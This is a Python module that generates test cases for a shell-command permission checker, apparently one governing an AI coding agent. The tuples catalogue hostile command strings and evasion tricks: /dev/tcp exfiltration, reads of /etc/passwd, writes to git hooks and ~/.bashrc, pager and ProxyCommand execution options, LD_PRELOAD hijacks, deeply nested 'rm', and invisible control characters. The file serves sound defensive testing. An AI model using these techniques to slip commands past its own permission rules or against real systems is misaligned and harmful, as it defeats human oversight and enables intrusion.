"""What rules cover and what they do not (C1 to C4, C6, C8, C9, C12 to C14)."""

from __future__ import annotations

from product_model import (
    MODES,
    NO_RULE,
    WHOLE,
    WHOLE_OTHER_DENY,
    Case,
    Permission,
    Row,
    RuleSet,
    allow_program,
    cross,
    make_row,
)

MATCHES = (
    ("Bash(zz:*)", "zz", True), ("Bash(zz:*)", "zz a", True), ("Bash(zz:*)", "zz  a\tb", True), ("Bash(zz:*)", "zzb", False), ("Bash(zz:*)", "zz-b", False), ("Bash(zz:*)", "zz.b a", False), ("Bash(zz:*)", "xzz a", False), ("Bash(zz *)", "zz", True), ("Bash(zz *)", "zz a", True), ("Bash(zz *)", "zzb", False), ("Bash(zz*)", "zzb", True), ("Bash(zz*)", "zz a", True), ("Bash(zz*)", "azz", False), ("Bash(zz)", "zz", True), ("Bash(zz)", "zz a", False), ("Bash(zz a)", "zz a", True), ("Bash(zz a)", "zz  a", True), ("Bash(zz a)", "zz\ta", True), ("Bash(zz a)", "zz a b", False), ("Bash(zz a)", "  zz a  ", True), ("Bash( zz a )", "zz a", True), ("Bash(zz a)", "zz b", False),
    ("Bash(npm run test:*)", "npm run test", True), ("Bash(npm run test:*)", "npm run test -- a", True), ("Bash(npm run test:*)", "npm run tests", False), ("Bash(npm run test:*)", "npm  run\ttest", True), ("Bash(npm run test:*)", "npm run build", False), ("Bash(npm run *)", "npm run x", True), ("Bash(npm run *)", "npm install", False), ("Bash(npm run test*)", "npm run test:unit", True), ("Bash(zz * b)", "zz a b", True), ("Bash(zz * b)", "zz a c b", True), ("Bash(zz * b)", "zz a c", False), ("Bash(* --version)", "zz --version", True), ("Bash(* --version)", "zz -v", False), ("Bash(*)", "zz a", True), ("Bash()", "zz a", True), ("Bash", "zz a", True), ("Bash(zz:*)", "ZZ a", False), ("Bash(ZZ:*)", "zz a", False), ("Bash(zz:*)", "yy a", False), ("Read(zz)", "zz a", False), ("Edit", "zz a", False), ("Bash(zz a:*)", "zz a b", True), ("Bash(zz a:*)", "zz ab", False), ("Bash(zz a:*)", "zz b a", False), ("Bash(zz:* b)", "zz a b", False),
    ("Bash(zz", "zz a", False), ("Bash(zz:*", "zz a", False), ("Bash zz)", "zz a", False), ("bash(zz:*)", "zz a", False), ("Bash(zz:*) x", "zz a", False), ("(zz:*)", "zz a", False), ("zz:*", "zz a", False), ("Bashzz(zz:*)", "zz a", False), ("Bash(zz)(a)", "zz a", False), ("Write(zz:*)", "zz a", False), ("Bash(zz a)", "zz a;", True), ("Bash(zz:*)", "zz a &", True),
    ("Bash(git commit:*)", "git --no-pager commit -m x", True), ("Bash(git commit:*)", "git -c core.editor=zz commit", False), ("Bash(git commit:*)", "git --exec-path=x commit -m x", False), ("Bash(git commit:*)", "git push", False), ("Bash(git commit:*)", "git commits", False), ("Bash(git commit:*)", "git add commit", False),
    ("Bash(zz *)", "zz a && yy b", False), ("Bash(zz * b)", "zz a; yy b", False), ("Bash(zz:*)", "zz a | yy", False), ("Bash(zz*)", "zz a\nyy", False), ("Bash(zz:*)", "zz 'a; yy'", True), ("Bash(zz:*)", 'zz "a && yy"', True), ("Bash(zz:*)", "zz 'a > b'", True), ("Bash(zz:*)", "zz a\\;yy", True), ("Bash(zz:*)", "zz # a; yy", True), ("Bash(zz:*)", "zz '$(yy)'", True),
)  # fmt: skip

PARTS = ("zz a; yy b", "zz a && yy b", "zz a || yy b", "zz a | yy b", "zz a |& yy b", "zz a & yy b", "zz a\nyy b", "(zz a; yy b)", "{ zz a; yy b; }", "! zz a; yy b", "if zz a; then yy b; fi", "if zz; then zz; else yy; fi", "if zz; then zz; elif yy; then zz; fi", "for i in a; do zz; yy; done", "while zz; do yy; done", "until zz; do yy; done", "case a in a) zz;; b) yy;; esac", "zz a; (yy b)", "zz a && { yy b; }", "zz & yy &", "zz a;yy b", "zz;\n\nyy", "zz a # x\nyy b", "zz a && \\\nyy b", "time zz; yy", "if ! zz; then yy; fi", "[[ -f a ]] && zz && yy", "zz a; { { yy; }; }")  # fmt: skip
OPEN_PARTS = (
    "f() { zz; yy; }; f",
    "function f { zz; yy; }; f",
    "select i in a; do zz; yy; done",
    "coproc zz; yy",
    "for ((;;)); do zz; yy; done",
)
INNER = ("zz $(yy)", "zz `yy`", 'zz "$(yy)"', "zz <(yy)", "zz <<EOF\n$(yy)\nEOF", "zz <<< $(yy)", 'zz <<< "$(yy)"', "zz ${v:-$(yy)}", "v=$(yy); zz", "zz $(zz $(yy))", "zz a$(yy)b", "for i in $(yy); do zz; done", "case $(yy) in a) zz;; esac", "zz \"a $(zz \"b $(yy)\")\"", "zz ${v/$(yy)/y}", "zz \"${v:-$(yy)}\"")  # fmt: skip
# Arrays, and texts of which two parsers may count the commands differently, which asks.
OPEN_INNER = (
    "zz <<EOF\n`yy`\nEOF",
    'zz "${v:-`yy`}"',
    "zz ${v#$(yy)}",
    "[[ $(yy) ]] && zz",
    "v=($(yy)); zz",
    "cat <<-EOF\n\t$(yy)\n\tEOF\nzz",
)
INNER_EVALUATED = (
    "zz $(( $(yy) ))",
    "zz $(( $(yy) + 1 ))",
    "zz ${a[$(yy)]}",
    "a[$(yy)]=1; zz",
    "zz ${v:$(yy)}",
    "(( $(yy) )) && zz",
    "zz ${#a[$(yy)]}",
)

LOOKED_THROUGH = ("timeout 5 zz a", "time zz a", "nice zz a", "nice -n 5 zz a", "nohup zz a", "stdbuf -o0 zz a", "command zz a", "xargs zz", "ls | xargs zz", "timeout 5 nice zz a", "time -p zz a", "NODE_ENV=x zz a", "CI=1 zz a", "LANG=C zz a", "LC_ALL=C zz a", "TZ=UTC zz a", "NO_COLOR=1 zz a", "FORCE_COLOR=1 zz a", "PYTHONUNBUFFERED=1 zz a", "CI=1 NO_COLOR=1 zz a", "CI=1 timeout 5 zz a", "timeout 5s zz a", "timeout 1m zz a", "zz a 2>&1", "zz a > /dev/null", "zz a 2>/dev/null", "zz \\\n a")  # fmt: skip
NOT_LOOKED_THROUGH = ("env zz a", "env A=1 zz a", "sudo zz a", "doas zz a", "setsid zz a", "ionice -c3 zz a", "watch zz a", "flock f zz a", "exec zz a", "xargs -n1 zz", "xargs -I{} zz {}", "xargs -0 zz", "bash -c 'zz a'", "sh -c zz", "eval zz a", "eval 'zz a'", "strace zz a", "busybox zz a", "chroot / zz a", "su -c 'zz a'", "unshare zz a", "parallel zz ::: a", "command -p zz a", "find . -exec zz {} +", "ssh h zz", "script -c zz", "taskset 1 zz a", "chrt 1 zz a", "coproc zz a", "trap zz EXIT", "npx zz", "docker exec c zz", "direnv exec . zz", "mise exec -- zz", "devbox run zz", "./zz a", "/usr/bin/zz a", "bin/zz a", "../zz a", "~/bin/zz a", "PATH=/x zz a", "LD_PRELOAD=x zz a", "BASH_ENV=x zz a", "LD_LIBRARY_PATH=x zz a", "GIT_EXTERNAL_DIFF=x zz a", "PAGER=x zz a", "PYTHONPATH=x zz a", "NODE_OPTIONS=x zz a", "IFS=x zz a", "GIT_SSH_COMMAND=x zz a", "EDITOR=x zz a", "PERL5OPT=x zz a", "RUBYOPT=x zz a", "ENV=x zz a", "CI=1 PATH=/x zz a", "PATH=/x; zz a", "export PATH=/x; zz a", "export LD_PRELOAD=x && zz a", "declare -x PATH=/x; zz a", "PATH+=:/x zz a", "alias zz=yy; zz a", "zz() { yy; }; zz a", "hash -p /x zz; zz a", "$(echo zz) a", "$x a", "zz$x a", "read PATH <<< /x; zz a", "enable -n zz; zz a", "printf -v PATH /x; zz a", "timeout $x zz a", "timeout 5 $x zz a", "nice -n $x zz a", "{zz,yy} a")  # fmt: skip

OWN_RULE_ASKS = (
    ("watch", "watch zz"), ("watch", "watch ls"), ("watch", "watch -n 1 'ls'"), ("setsid", "setsid zz"), ("setsid", "setsid ls"), ("setsid", "setsid -f zz a"), ("ionice", "ionice -c3 zz"), ("ionice", "ionice ls"), ("flock", "flock f zz"), ("flock", "flock f -c 'zz'"), ("flock", "flock f ls"), ("find", "find . -exec zz {} \\;"), ("find", "find . -exec ls {} +"), ("find", "find . -execdir zz \\;"), ("find", "find . -ok zz \\;"), ("find", "find . -okdir zz \\;"), ("find", "find . -delete"), ("find", "find . -name x -delete"), ("find", "find . -de'lete'"), ("find", "find . -ex\\ec zz \\;"), ("find", "find . $x"), ("find", "find . -fprint /etc/x"), ("find", "find . -fprint .git/hooks/x"),
    ("rg", "rg --pre zz x"), ("rg", "rg --pre=zz x"), ("rg", "rg x --pre zz"), ("rg", "rg --hostname-bin zz x"), ("rg", "rg --hostname-bin=zz x"), ("rg", "rg --p're'=zz x"), ("sort", "sort --compress-program=zz a.txt"), ("sort", "sort --compress-program zz a.txt"), ("sort", "sort --compress-prog=zz a.txt"), ("sort", "sort --comp zz a.txt"), ("git", "git -c alias.x='!sh' x"), ("git", "git -c 'alias.x=!zz' x"), ("git", "git -c core.pager=zz log"), ("git", "git -c core.sshCommand=zz fetch"), ("git", "git -c core.fsmonitor=zz status"), ("git", "git -c core.editor=zz commit"), ("git", "git -c diff.external=zz diff"), ("git", "git --config-env=core.pager=X log"), ("git", "git --exec-path=x status"), ("git", "git grep -Ozz x"), ("git", "git grep -O zz"), ("git", "git grep --open-files-in-pager=zz x"), ("git", "git rebase -x zz main"), ("git", "git rebase --exec zz main"), ("git", "git rebase --exec=zz main"), ("git", "git bisect run zz"), ("git", "git submodule foreach zz"), ("git", "git submodule foreach 'zz a'"), ("git", "git filter-branch --tree-filter zz"), ("git", "git fetch --upload-pack=zz h"), ("git", "git fetch --upload-pack zz h"), ("git", "git clone -u zz h"), ("git", "git clone --upload-pack=zz h"), ("git", "git clone -c core.fsmonitor=zz h"), ("git", "git clone --config core.fsmonitor=zz h"), ("git", "git push --receive-pack=zz h"), ("git", "git push --exec=zz h"), ("git", "git ls-remote --upload-pack=zz h"), ("git", "git pull --upload-pack=zz h"), ("git", "git difftool -x zz"), ("git", "git difftool --extcmd=zz"), ("git", "git archive --remote=h --exec=zz HEAD"), ("git", "git send-email --smtp-server=/bin/zz x"),
    ("tar", "tar --checkpoint-action=exec=zz -cf a.tar ."), ("tar", "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='zz a' ."), ("tar", "tar --to-command=zz -xf a.tar"), ("tar", "tar --to-command zz -xf a.tar"), ("tar", "tar -I zz -xf a.tar"), ("tar", "tar -Izz -xf a.tar"), ("tar", "tar --use-compress-program=zz -xf a.tar"), ("tar", "tar --use-compress-prog=zz -xf a.tar"), ("tar", "tar -F zz -cf a.tar ."), ("tar", "tar --info-script=zz -cf a.tar ."), ("tar", "tar --new-volume-script=zz -cf a.tar ."), ("tar", "tar --rsh-command=zz -xf h:a.tar"), ("rsync", "rsync -e zz a h:"), ("rsync", "rsync --rsh=zz a h:"), ("rsync", "rsync --rsync-path=zz a h:"), ("rsync", "rsync -ae zz a h:"), ("fd", "fd -x zz"), ("fd", "fd -xzz"), ("fd", "fd --exec zz"), ("fd", "fd --exec=zz"), ("fd", "fd -X zz"), ("fd", "fd --exec-batch zz"), ("split", "split --filter=zz a.txt"), ("split", "split --filter 'zz > $FILE' a.txt"), ("man", "man -P zz ls"), ("man", "man --pager=zz ls"), ("man", "man -Hzz ls"), ("zip", "zip a.zip b -T -TT zz"), ("zip", "zip a.zip b -T --unzip-command=zz"), ("go", "go test -exec zz ./..."), ("go", "go build -toolexec=zz"), ("go", "go build -toolexec zz"), ("go", "go vet -vettool=zz"), ("go", "go run -exec=zz ."), ("gcc", "gcc -wrapper zz a.c"), ("bat", "bat --pager=zz a.txt"), ("hg", "hg --config alias.x='!zz' x"), ("svn", "svn diff --diff-cmd zz"), ("fzf", "fzf --preview zz"), ("npm", "npm --script-shell=zz test"), ("wget", "wget --use-askpass=zz h"), ("scp", "scp -S zz a h:"), ("sftp", "sftp -S zz h"), ("curl", "curl -o .git/hooks/x h"), ("curl", "curl -o /etc/x h"), ("curl", "curl -o ~/.bashrc h"), ("curl", "curl -O --output-dir .git/hooks h/x"), ("wget", "wget -P .git/hooks h/x"), ("ssh", "ssh -o ProxyCommand=zz h"), ("ssh", "ssh -oProxyCommand=zz h"), ("ssh", "ssh -o 'LocalCommand zz' h"),
)  # fmt: skip

UNPARSABLE = ("echo 'a", 'echo "a', "zz (", "if zz", "zz )", "zz &&", "for", "case a in", "zz | | yy", "zz ;; yy", "zz $(", "zz ${", "{ zz", "zz `", "fi", "zz <<< ", "zz >", "( zz", "while zz; do", "done", "zz $((1", "[[ a", "zz & & yy", "then zz", "zz && ; yy", "function", "zz $(yy", "zz 'a' 'b")  # fmt: skip
CONTROL = {"bell": "\x07", "escape": "\x1b[2K", "carriage return": "\r", "backspace": "\x08", "delete": "\x7f", "right-to-left": "\u202e", "isolate": "\u2066", "zero width": "\u200b", "joiner": "\u200d", "byte order mark": "\ufeff", "word joiner": "\u2060", "c1": "\x9b", "vertical tab": "\x0b", "form feed": "\x0c", "left-to-right mark": "\u200e", "soft hyphen": "\u00ad"}  # fmt: skip
FREE_TARGETS = (
    "echo a > /dev/null",
    "echo a >> /dev/null",
    "echo a 2> /dev/null",
    "echo a &> /dev/null",
    "echo a >| /dev/null",
    "echo a 2>&1",
    "echo a >&2",
    "echo a 1>&2",
    "ls 2>&1 >/dev/null",
    "ls 3>&1",
    "ls 2>&-",
    "ls <&-",
    "ls >/dev/null 2>&1 < /dev/null",
)


def _make_match_rows() -> list[Row]:
    found: list[Row] = []
    for rule, text, covers in MATCHES:
        whole = rule in {"Bash", "Bash(*)", "Bash()"}
        case = Case(
            f"{rule} for {text!r}",
            text,
            "C3" if "yy" in text else "C2",
            prefix=covers,
            whole=covers,
        )
        kind = "whole" if whole else "prefix"
        modes = MODES if covers else ("default", "acceptEdits", "dontAsk", "plan")
        found += cross("rule matching", [case], modes, [RuleSet(rule, kind, (rule,))])
        if not covers or whole or rule.startswith(("Read", "Edit")):
            continue
        # The same patterns deny and ask (C1), whatever is allowed.
        for allow in ((), ("Bash",), (rule,)):
            found += [
                make_row(
                    "rule matching",
                    case,
                    RuleSet(f"deny {rule}, allow {allow}", "none", allow, deny=(rule,), hit="deny"),
                    mode,
                )
                for mode in ("default", "bypassPermissions", "plan")
            ]
            found += [
                make_row(
                    "rule matching",
                    case,
                    RuleSet(f"ask {rule}, allow {allow}", "none", allow, ask=(rule,), hit="ask"),
                    mode,
                )
                for mode in ("default", "bypassPermissions", "dontAsk", "acceptEdits")
            ]
        both = RuleSet(
            f"deny and ask {rule}", "none", ("Bash", rule), ask=(rule,), deny=(rule,), hit="deny"
        )
        found += [make_row("rule matching", case, both, mode) for mode in MODES]
    return found


def _make_part_rows() -> list[Row]:
    found: list[Row] = []
    zz, yy = "Bash(zz:*)", "Bash(yy:*)"
    for texts, clause, covered, unknown in (
        (PARTS, "C3", True, False),
        (INNER, "C4", True, False),
        (OPEN_PARTS, "C3", None, None),
        (OPEN_INNER, "C4", None, None),
        (INNER_EVALUATED, "C4", False, True),
    ):
        for text in texts:
            case = Case(text, text, clause, prefix=False)
            both = Case(text, text, clause, prefix=covered, unknown=unknown)
            found += cross(
                "parts",
                [case],
                ("default", "acceptEdits", "dontAsk", "plan"),
                [
                    RuleSet("zz only", "prefix", (zz,)),
                    RuleSet("yy only", "prefix", (yy,)) if "zz" in text else NO_RULE,
                ],
            )
            found += cross("parts", [both], MODES, [RuleSet("zz and yy", "prefix", (zz, yy))])
            found += cross(
                "parts",
                [Case(text, text, clause, unknown=unknown)],
                ("default", "dontAsk", "plan", "bypassPermissions"),
                [WHOLE],
            )
            for deny in (yy, zz):
                rules = RuleSet(f"deny {deny}", "whole", ("Bash",), deny=(deny,), hit="deny")
                found += cross("parts", [case], MODES, [rules])
            asking = RuleSet(
                "ask yy, deny zz", "whole", ("Bash",), ask=(yy,), deny=(zz,), hit="deny"
            )
            found += cross("parts", [case], ("default", "bypassPermissions"), [asking])
            found += cross(
                "parts",
                [case],
                ("default", "dontAsk", "bypassPermissions"),
                [RuleSet("ask yy", "whole", ("Bash",), ask=(yy,), hit="ask")],
            )
    return found


def _make_wrapper_rows() -> list[Row]:
    through = [Case(text, text, "C6") for text in LOOKED_THROUGH]
    open_unknown: Permission = None
    closed = [
        Case(text, text, "C6", prefix=False, whole=None, unknown=open_unknown)
        for text in NOT_LOOKED_THROUGH
    ]
    own = [
        Case(text, text, "C6", program, prefix=False, whole=None, exact=None, unknown=None)
        for program, text in OWN_RULE_ASKS
    ]
    spelled = [
        Case("./zz a", "./zz a", "C6", "./zz"),
        Case("/usr/bin/zz a", "/usr/bin/zz a", "C6", "/usr/bin/zz"),
        Case("bin/zz a", "bin/zz a", "C6", "bin/zz"),
    ]

    def allow_own_program(case: Case) -> list[RuleSet]:
        return [allow_program(case)]

    with_zz = [
        RuleSet(
            "own rule and Bash(zz:*)", "prefix", (f"Bash({name}:*)", "Bash(zz:*)", "Bash(ls:*)")
        )
        for name in ("watch", "setsid", "ionice", "flock")
    ]
    return [
        *cross("wrappers", through, MODES, allow_own_program),
        *cross(
            "wrappers", closed, ("default", "acceptEdits", "dontAsk", "plan"), allow_own_program
        ),
        *cross("wrappers", spelled, ("default", "dontAsk"), allow_own_program),
        *cross(
            "running options", own, ("default", "acceptEdits", "dontAsk", "plan"), allow_own_program
        ),
        *[
            make_row("wrappers", case, rules, "default")
            for rules in with_zz
            for case in own
            if case.program == rules.allow[0][5:-3]
        ],
    ]


def _make_limit_rows() -> list[Row]:
    broken = [
        Case(text, text, "C12", prefix=False, whole=None, exact=None, unknown=None)
        for text in UNPARSABLE
    ]
    found = cross(
        "unparsable",
        broken,
        ("default", "acceptEdits", "plan", "dontAsk"),
        lambda case: [
            NO_RULE,
            RuleSet("content rules", "prefix", ("Bash(zz:*)", "Bash(yy:*)", "Bash(echo:*)")),
        ],
    )
    for text in ("rm x; echo 'a", "rm x && (", "rm x | | zz", "rm x; if"):
        rules = RuleSet(
            "deny rm, allow Bash", "whole", ("Bash",), deny=("Bash(rm:*)",), hit="reach"
        )
        found += cross("unparsable", [Case(text, text, "C13")], MODES, [rules])
    many = {
        "parts": "ls; " * 700 + "{}",
        "first": "{}; " + "ls; " * 700 + "ls",
        "pipe": "ls | " * 400 + "{}",
        "long word": "ls " + "a" * 20000 + "; {}",
        "lines": "ls\n" * 700 + "{}",
        "words": "ls " + "a " * 2000 + "&& {}",
        "nested": "( " * 30 + "{}" + " )" * 30,
        "substitutions": "echo $(" * 12 + "{}" + ")" * 12,
    }
    for name, text in many.items():
        filled = text.format("rm x")
        denying = RuleSet(
            "deny rm, allow Bash", "whole", ("Bash",), deny=("Bash(rm:*)",), hit="deny"
        )
        found += cross(
            "limits",
            [Case(name, filled, "C13")],
            ("default", "bypassPermissions", "dontAsk"),
            [denying],
        )
        found += cross("limits", [Case(name, text.format("zz"), "C13")], ("default",), [NO_RULE])
    for depth in (100, 1000):
        for opening, closing in (
            ("$(", ")"),
            ("( ", " )"),
            ("{ ", "; }"),
            ("${a:-", "}"),
            ("if ", "; then ls; fi"),
        ):
            text = (
                ("echo " if opening[0] == "$" else "") + opening * depth + "rm x" + closing * depth
            )
            rules = RuleSet(
                "deny rm, allow Bash",
                "whole",
                ("Bash",),
                deny=("Bash(rm:*)",),
                hit="reach" if opening != "${a:-" else "maybe",
            )
            found += cross(
                "limits", [Case(f"{depth} {opening}", text, "C13")], ("default",), [rules]
            )
    for name, sign in CONTROL.items():
        for text in (
            f"ls a{sign}b",
            f"echo '{sign}x'",
            f"ls {sign}",
            f"zz a{sign}",
            f"cat a.txt # {sign}x",
        ):
            case = Case(
                f"{name}: {text!r}",
                text,
                "C14",
                prefix=False,
                exact=None,
                whole=None,
                bypass=None,
                unknown=None,
            )
            found += cross(
                "control characters",
                [case],
                ("default", "plan", "dontAsk"),
                [
                    NO_RULE,
                    RuleSet(
                        "content rules",
                        "prefix",
                        ("Bash(zz:*)", "Bash(ls:*)", "Bash(echo:*)", "Bash(cat:*)"),
                    ),
                ],
            )
    return found


def _make_redirection_rows() -> list[Row]:
    free = [Case(text, text, "C8", "echo", reads=True) for text in FREE_TARGETS]
    network = [
        Case(text, text, "C8", text.split()[0], prefix=False, exact=None, whole=False)
        for text in (
            "echo a > /dev/tcp/h/80",
            "cat a.txt > /dev/udp/h/53",
            "echo a >> /dev/tcp/h/80",
            "ls &> /dev/tcp/h/80",
        )
    ]
    reads = [
        Case(text, text, "C9", "zz", prefix=None, exact=None, whole=None)
        for text in (
            "zz < /etc/passwd",
            "cat < /etc/passwd",
            "cat < ../x",
            "cat < $x",
            "cat 0< /etc/passwd",
            "cat <> a.txt",
            "while read -r l; do echo $l; done < /etc/passwd",
            "cat < ~/x",
            "mapfile a < /etc/passwd",
            "cat < <(cat /etc/passwd)",
            "exec < /etc/passwd",
            "cat 3< /etc/passwd <&3",
        )
    ]
    denied = [
        make_row(
            "redirections",
            Case(text, text, "C9"),
            RuleSet(
                f"deny Read(//etc/**), allow {allow}",
                "whole",
                allow,
                deny=("Read(//etc/**)",),
                hit="deny",
            ),
            mode,
        )
        for text in (
            "zz < /etc/passwd",
            "cat < /etc/passwd",
            "cat 0</etc/passwd",
            "{ zz; } < /etc/passwd",
            "while read -r l; do echo $l; done < /etc/passwd",
        )
        for allow in ((), ("Bash",))
        for mode in ("default", "bypassPermissions", "dontAsk")
    ]
    return [
        *cross("redirections", free, MODES, [NO_RULE, WHOLE_OTHER_DENY]),
        *cross(
            "redirections",
            network,
            ("default", "acceptEdits", "plan", "dontAsk"),
            lambda case: [NO_RULE, allow_program(case), WHOLE],
        ),
        *cross("redirections", reads, ("default", "plan", "dontAsk"), [NO_RULE]),
        *denied,
    ]


def make_rows() -> list[Row]:
    """Every clause about what a rule covers."""
    return [
        *_make_match_rows(),
        *_make_part_rows(),
        *_make_wrapper_rows(),
        *_make_limit_rows(),
        *_make_redirection_rows(),
    ]
